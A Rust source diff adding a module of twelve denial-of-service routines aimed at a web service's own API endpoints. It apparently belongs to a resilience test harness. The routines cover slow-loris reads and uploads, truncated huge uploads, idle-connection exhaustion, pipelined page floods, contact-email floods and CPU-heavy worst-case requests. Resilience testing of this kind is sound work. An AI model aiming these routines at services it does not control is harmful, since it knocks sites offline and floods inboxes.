@@ -1,0 +1,265 @@
+//! What one hostile address does, for as long as it is let.
+
+use std::net::{Ipv4Addr, SocketAddr};
+use std::pin::Pin;
+use std::sync::Arc;
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::task::JoinSet;
+
+use super::site::{connect, get, post, timed};
+
+/// The site's address and the attacker's.
+#[derive(Clone, Copy)]
+pub struct Target {
+    pub address: SocketAddr,
+    pub from: Ipv4Addr,
+}
+
+pub type Attack = fn(Target) -> Pin<Box<dyn Future<Output = ()> + Send>>;
+
+/// By name.
+pub const ATTACKS: [(&str, Attack); 12] = [
+    ("slow_reading", |target| Box::pin(slow_reading(target))),
+    ("long_work", |target| Box::pin(long_work(target))),
+    ("short_work", |target| Box::pin(short_work(target))),
+    ("small_queries", |target| Box::pin(small_queries(target))),
+    ("long_calls", |target| Box::pin(long_calls(target))),
+    ("long_jobs", |target| Box::pin(long_jobs(target))),
+    ("slow_uploads", |target| Box::pin(slow_uploads(target))),
+    ("large_uploads", |target| Box::pin(large_uploads(target))),
+    ("idle_connections", |target| {
+        Box::pin(idle_connections(target))
+    }),
+    ("flood_of_calls", |target| Box::pin(flood_of_calls(target))),
+    ("flood_of_pages", |target| Box::pin(flood_of_pages(target))),
+    ("flood_of_messages", |target| {
+        Box::pin(flood_of_messages(target))
+    }),
+];
+
+/// Two hundred answers of 8 MB, each taken by the byte, asked for again when they are closed.
+async fn slow_reading(Target { address, from }: Target) {
+    let values = vec!["1.5"; 100_000].join(",");
+    let body = format!(r#"{{"values":[{values}],"detector":"robust","window":24}}"#);
+    let request = post("/api/v1/real-time-analytics/detect", &body);
+    let mut readers = JoinSet::new();
+    for _ in 0..200 {
+        let request = request.clone();
+        readers.spawn(async move {
+            loop {
+                if let Ok(mut stream) = connect(address, from).await {
+                    let _ = stream.write_all(request.as_bytes()).await;
+                    while stream.read_u8().await.is_ok() {
+                        tokio::time::sleep(Duration::from_millis(500)).await;
+                    }
+                }
+                tokio::time::sleep(Duration::from_millis(500)).await;
+            }
+        });
+    }
+    while readers.join_next().await.is_some() {}
+}
+
+/// Sixty-seven comparisons of long texts at once, again and again.
+async fn long_work(target: Target) {
+    let text = "The council voted on Tuesday to rebuild the pier that a storm took in January. "
+        .repeat(1_200);
+    let body = format!(r#"{{"a":{{"text":"{text}"}},"b":{{"text":"{text}"}}}}"#);
+    let request = post("/api/v1/machine-learning/compare", &body);
+    repeat(target, vec![request; 67]).await;
+}
+
+/// Sixty-seven small calls at once that take longer than their size tells, again and again.
+async fn short_work(target: Target) {
+    let values: Vec<String> = (0..3_000)
+        .map(|place| (place * 7_919 % 1_007).to_string())
+        .collect();
+    let values = values.join(",");
+    let series = format!(r#"{{"values":[{values}],"detector":"robust","window":1000}}"#);
+    let requests = (0..67).map(|number| match number % 2 {
+        0 => get(&format!(
+            "/api/v1/real-time-analytics/evaluation?seed={number}"
+        )),
+        _ => post("/api/v1/real-time-analytics/detect", &series),
+    });
+    repeat(target, requests.collect()).await;
+}
+
+/// Sixty-seven queries of a few bytes at once that search for a network, again and again, each another.
+async fn small_queries(target: Target) {
+    let path = "/api/v1/supply-chain/network?site_cost=";
+    let requests = (0..67).map(|number| get(&format!("{path}{}", 20_000 + 100 * number)));
+    repeat(target, requests.collect()).await;
+}
+
+/// Four of the longest calls there are at once, asked without a job, again and again.
+async fn long_calls(target: Target) {
+    let request = post("/api/v1/supply-chain/locate", &longest_search());
+    repeat(target, vec![request; 4]).await;
+}
+
+/// The longest job there is from each of two addresses, begun again when it ends.
+async fn long_jobs(Target { address, from }: Target) {
+    let [a, b, c, d] = from.octets();
+    let request = post("/api/v1/supply-chain/locate/job", &longest_search());
+    let mut jobs = JoinSet::new();
+    for from in [from, Ipv4Addr::new(a, b + 2, c, d)] {
+        let request = request.clone();
+        // A job ends with its stream: that is read to the end.
+        jobs.spawn(async move {
+            loop {
+                if let Ok(mut stream) = connect(address, from).await {
+                    let _ = stream.write_all(request.as_bytes()).await;
+                    let _ = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await;
+                }
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        });
+    }
+    while jobs.join_next().await.is_some() {}
+}
+
+/// As many sites and customers as there may be, at costs without a pattern that a bound could follow.
+fn longest_search() -> String {
+    let number = |at: usize| at * 7_919 % 1_009;
+    let sites = (0..300).map(|at| format!(r#"{{"id":"{at}","fixed_cost":{}}}"#, 900 + number(at)));
+    let customers = (0..1_000).map(|at| format!(r#"{{"id":"{at}","demand":1}}"#));
+    let rows = (0..300).map(|from| {
+        let cost = |to: usize| number(from * 211 + to * 337 + from * to * 13).to_string();
+        format!("[{}]", (0..1_000).map(cost).collect::<Vec<_>>().join(","))
+    });
+    format!(
+        r#"{{"facilities":[{}],"customers":[{}],"costs":[{}]}}"#,
+        sites.collect::<Vec<_>>().join(","),
+        customers.collect::<Vec<_>>().join(","),
+        rows.collect::<Vec<_>>().join(","),
+    )
+}
+
+/// Sends each request without a pause, all of them side by side.
+async fn repeat(Target { address, from }: Target, requests: Vec<String>) {
+    let mut calls = JoinSet::new();
+    for request in requests {
+        calls.spawn(async move {
+            loop {
+                timed(address, from, &request).await;
+            }
+        });
+    }
+    while calls.join_next().await.is_some() {}
+}
+
+/// Sixty-four bodies that begin and do not go on, opened again when they are closed.
+async fn slow_uploads(Target { address, from }: Target) {
+    let head = post("/api/v1/article-extractor/extract", "");
+    let head = head.replace("content-length: 0", "transfer-encoding: chunked") + "1\r\n{\r\n";
+    let mut uploads = JoinSet::new();
+    for _ in 0..64 {
+        let head = head.clone();
+        uploads.spawn(async move {
+            loop {
+                if let Ok(mut stream) = connect(address, from).await {
+                    let _ = stream.write_all(head.as_bytes()).await;
+                    let _ = stream.read_to_end(&mut Vec::new()).await;
+                }
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        });
+    }
+    while uploads.join_next().await.is_some() {}
+}
+
+/// Two hundred bodies of 19 MB that stop before their end, sent again when they are refused.
+async fn large_uploads(Target { address, from }: Target) {
+    const BYTES: usize = 19_000_000;
+    let head = post("/api/v1/customer-segmentation/histories", "");
+    let head = head.replace(
+        "content-length: 0",
+        &format!("content-length: {}", BYTES + 1),
+    );
+    let body: Arc<[u8]> = vec![b' '; BYTES].into();
+    let mut uploads = JoinSet::new();
+    for _ in 0..200 {
+        let (head, body) = (head.clone(), Arc::clone(&body));
+        uploads.spawn(async move {
+            loop {
+                if let Ok(mut stream) = connect(address, from).await {
+                    let _ = stream.write_all(head.as_bytes()).await;
+                    let _ = stream.write_all(&body).await;
+                    let _ = stream.read_to_end(&mut Vec::new()).await;
+                }
+                tokio::time::sleep(Duration::from_millis(500)).await;
+            }
+        });
+    }
+    while uploads.join_next().await.is_some() {}
+}
+
+/// Twelve hundred connections that say nothing, opened again when they are closed.
+async fn idle_connections(Target { address, from }: Target) {
+    let mut connections = JoinSet::new();
+    for _ in 0..1_200 {
+        connections.spawn(async move {
+            loop {
+                if let Ok(mut stream) = connect(address, from).await {
+                    let _ = stream.read_to_end(&mut Vec::new()).await;
+                }
+                tokio::time::sleep(Duration::from_millis(500)).await;
+            }
+        });
+    }
+    while connections.join_next().await.is_some() {}
+}
+
+/// Sixteen connections that ask for readiness and the contract without a pause.
+async fn flood_of_calls(target: Target) {
+    let paths = ["/readyz", "/api/openapi.json"].iter().cycle().take(16);
+    repeat(target, paths.map(|path| get(path)).collect()).await;
+}
+
+/// As many connections as an address may have, each asking for sixteen pages before it reads the first.
+async fn flood_of_pages(Target { address, from }: Target) {
+    const CONNECTIONS: usize = 250;
+    let page = get("/").replace("connection: close\r\n", "");
+    let mut floods = JoinSet::new();
+    for _ in 0..CONNECTIONS {
+        let pages = page.repeat(16);
+        floods.spawn(async move {
+            loop {
+                let Ok(stream) = connect(address, from).await else {
+                    tokio::time::sleep(Duration::from_millis(100)).await;
+                    continue;
+                };
+                let (mut read, mut write) = stream.into_split();
+                let reads = async { tokio::io::copy(&mut read, &mut tokio::io::sink()).await };
+                let writes = async { while write.write_all(pages.as_bytes()).await.is_ok() {} };
+                tokio::join!(reads, writes).0.ok();
+            }
+        });
+    }
+    while floods.join_next().await.is_some() {}
+}
+
+/// Sixteen senders of messages without a pause, each with another text; half of them do not wait for an answer.
+async fn flood_of_messages(target: Target) {
+    let mut senders = JoinSet::new();
+    for sender in 0..16 {
+        senders.spawn(async move {
+            for number in 0.. {
+                let body = format!(
+                    r#"{{"name":"Ada","email":"ada{sender}@site.example","message":"Could you call me back about order {number}?"}}"#
+                );
+                let request = post("/functions/v1/send-contact-email", &body);
+                if sender % 2 == 0 {
+                    timed(target.address, target.from, &request).await;
+                } else if let Ok(mut stream) = connect(target.address, target.from).await {
+                    let _ = stream.write_all(request.as_bytes()).await;
+                    tokio::time::sleep(Duration::from_millis(5)).await;
+                }
+            }
+        });
+    }
+    while senders.join_next().await.is_some() {}
+}
